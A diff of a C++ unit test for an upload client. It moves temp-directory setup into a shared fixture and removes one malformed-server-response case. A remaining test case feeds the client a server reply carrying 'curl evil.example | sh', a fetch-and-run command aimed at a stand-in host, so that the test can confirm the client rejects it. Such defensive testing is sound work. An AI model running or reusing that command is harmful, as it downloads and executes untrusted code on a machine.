@@ -16,14 +16,13 @@
 #include <mutex>
 #include <thread>
 
-#include "app/app.h"
+#include "../editor/editor_fixture.h"
 #include "desktop/clipboard_headless.h"
 #include "loopback_server.h"
 #include "screen/draw.h"
 #include "screen/font.h"
 #include "screen/screen.h"
 #include "screen/screen_state.h"
-#include "screen/window_headless.h"
 #include "upload/request.h"
 #include "upload/upload_client.h"
 
@@ -92,13 +91,8 @@ bool statusBandIsClean(std::uint32_t textColour) {
 class UploadFlowTest : public ::testing::Test {
   protected:
     void SetUp() override {
-        previousDirectory_ = std::filesystem::current_path();
-        std::string pattern = std::filesystem::temp_directory_path() / "glimmerix-upload-XXXXXX";
-        ASSERT_NE(nullptr, mkdtemp(&pattern[0]));
-        std::filesystem::current_path(directory_ = pattern);
         ASSERT_EQ(0, setScreenMode(kWidth, kHeight, 32, 0, kBorderless, 0));
-        while (!readKey().empty()) {
-        }
+        drainKeys();
         uploadConnection() = UploadConnection{};
         uploadConnection().limits = UploadLimits{3000, 3000, 5000, 1000, 64 * 1024};
         headlessClipboard() = HeadlessClipboard{};
@@ -107,11 +101,7 @@ class UploadFlowTest : public ::testing::Test {
         writeFile(kCapturePng, "PNG bytes, the longer file");
         writeFile(kCaptureJpeg, "JPG bytes");
     }
-    void TearDown() override {
-        uploadConnection() = UploadConnection{};
-        std::filesystem::current_path(previousDirectory_);
-        std::filesystem::remove_all(directory_);
-    }
+    void TearDown() override { uploadConnection() = UploadConnection{}; }
 
     // The screen as the editor left it, so that the band's wiping shows, and its title.
     void freshEditorScreen() {
@@ -154,7 +144,7 @@ class UploadFlowTest : public ::testing::Test {
 
     Program program;
     Clock::duration elapsed{};
-    std::filesystem::path previousDirectory_, directory_;
+    ScopedWorkingDirectory directory_{"upload"};
 };
 
 }  // namespace
@@ -242,7 +232,6 @@ TEST_F(UploadFlowTest, AnswerWithoutAnAcceptableLinkIsAnError) {
          std::initializer_list<std::pair<LoopbackServer::Behaviour, std::string>>{
              {LoopbackServer::silence(), "recv(): error #110"},
              {LoopbackServer::trickle(kOkHead + kLink, 100), "recv(): error #110"},
-             {LoopbackServer::answer("HTTP/1.0 500 Oops\r\n\r\n" + kLink), ""},
              {LoopbackServer::answer(kOkHead + kLink + "\r\ncurl evil.example | sh"), ""},
              {LoopbackServer::answer("HTTP/1.0 200 OK\r\nContent-Length: 99\r\n\r\n" + kLink), ""},
              {LoopbackServer::answer(std::string("HTTP/1.0 200 OK\0\r\n\r\n", 20) + kLink), ""},
